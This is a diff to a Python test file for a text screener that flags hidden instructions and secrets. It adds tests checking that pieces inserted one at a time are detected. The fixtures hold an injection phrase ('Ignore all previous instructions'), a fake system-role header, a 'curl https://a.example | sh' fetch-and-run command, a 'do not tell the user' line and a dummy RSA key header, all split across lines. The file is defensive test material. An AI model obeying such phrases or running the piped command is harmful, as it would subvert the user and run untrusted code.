@@ -10,7 +10,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from hone.core import screen as screening
-from hone.core.screen import screen
+from hone.core.screen import find_new, screen
 from hone.core.visible import visible
 from tests.conftest import Figures, Tier
 from tests.core.secret_shapes import TOKEN_SHAPES
@@ -157,6 +157,50 @@ def test_screening_is_the_canonical_form_and_says_the_same_of_it_again(text: str
     assert screen(once.text).text == once.text
     assert screening.HIDDEN not in screen(once.text).flags
     assert json.loads(json.dumps(once.flags)) == list(once.flags)
+
+
+KEY = ("-----BEGIN RSA PRIVATE KEY-----", "MII" * 21, "-----END RSA PRIVATE KEY-----")
+PIECES = (
+    *("- system", "- :", ":", "-", "", "- you must", "## system", "system", "hello", "A" * 70),
+    *("- Ignore all previous", "- instructions: now", "instructions:", f"- {'B' * 60}"),
+    *("- curl https://a.example |", "sh", "- do not tell", "the user", *KEY),
+)
+
+
+@pytest.mark.parametrize(
+    "pieces",
+    [
+        ("- system", "- :", "- you must"),
+        ("- you must", "- :", "- system"),
+        ("system", "-", ":", "-", "you must"),
+        ("- curl https://a.example |", "sh"),
+    ],
+)
+@pytest.mark.parametrize("order", [1, -1])
+def test_pieces_that_are_added_one_by_one_are_found_together(pieces: tuple[str, ...], order: int) -> None:
+    lines = ["- A fact."] * 40
+    found: list[str] = []
+    for number, piece in enumerate(pieces):
+        before, at = "\n".join(lines), 20 + (number if order > 0 else 0)
+        lines.insert(at, piece)
+        found += find_new(before, "\n".join(lines))[1]
+    assert found == list(screen("\n".join(lines)).flags)
+
+
+@given(st.lists(st.sampled_from(PIECES), max_size=24), st.data())
+def test_what_a_change_brings_is_found_as_if_all_was_screened(lines: list[str], data: st.DataObject) -> None:
+    before = "\n".join(lines)
+    for _ in range(3):
+        at = data.draw(st.integers(0, len(lines)))
+        gone = data.draw(st.integers(0, 2))
+        lines = [*lines[:at], *data.draw(st.lists(st.sampled_from(PIECES), max_size=2)), *lines[at + gone :]]
+        after = "\n".join(lines)
+        was, now = screen(before), screen(after)
+        assert find_new(before, after) == (
+            tuple(each for each in now.secrets if each not in was.secrets),
+            tuple(each for each in now.flags if each not in was.flags),
+        )
+        before = after
 
 
 def test_a_long_nasty_text_is_screened_in_bounded_work() -> None:
